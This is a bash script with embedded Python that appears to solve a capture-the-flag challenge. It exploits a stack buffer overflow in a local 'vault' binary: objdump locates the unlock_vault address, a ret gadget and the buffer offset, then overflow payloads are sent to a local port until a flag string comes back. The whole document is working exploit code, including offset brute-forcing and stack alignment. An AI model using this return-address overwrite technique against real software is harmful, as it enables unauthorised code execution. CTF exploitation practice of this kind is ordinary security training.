#!/bin/bash
# check_phrase() reads 256 bytes into a 64-byte stack buffer: overwrite the saved return address
# with unlock_vault (fixed address: not PIE, no canary). An extra `ret` first keeps the stack
# 16-byte aligned for libc. The buffer offset comes from the disassembly (lea -0xNN(%rbp) before
# the read call); we also try nearby offsets in case the layout differs.
set -e
win=$(objdump -d vault | awk '/<unlock_vault>:$/ {print $1}')
ret=$(objdump -d vault | awk '/^ +[0-9a-f]+:\t.*\tret *$/ {sub(":", "", $1); print $1; exit}')
off=$(objdump -d vault | awk '/<check_phrase>:$/,/call.*<read@plt>/' | grep -o 'lea    -0x[0-9a-f]*(%rbp)' | tail -1 | grep -o '0x[0-9a-f]*')
python3 - "$win" "$ret" "${off:-0x40}" <<'PY'
import re, socket, struct, sys
win, ret, base = int(sys.argv[1], 16), int(sys.argv[2], 16), int(sys.argv[3], 16) + 8
def attempt(payload):
    s = socket.create_connection(("127.0.0.1", 9106)); s.settimeout(10)
    buf = b""
    while b"phrase:" not in buf:
        d = s.recv(4096)
        if not d: break
        buf += d
    s.sendall(payload)
    out = b""
    try:
        while True:
            d = s.recv(4096)
            if not d: break
            out += d
    except socket.timeout:
        pass
    return re.search(rb"flag\{[^}]+\}", out)
for off in [base] + [o for o in range(40, 160, 8) if o != base]:
    for chain in (struct.pack("<QQ", ret, win), struct.pack("<Q", win)):
        m = attempt(b"A" * off + chain)
        if m:
            print(m.group(0).decode()); sys.exit(0)
sys.exit(1)
PY
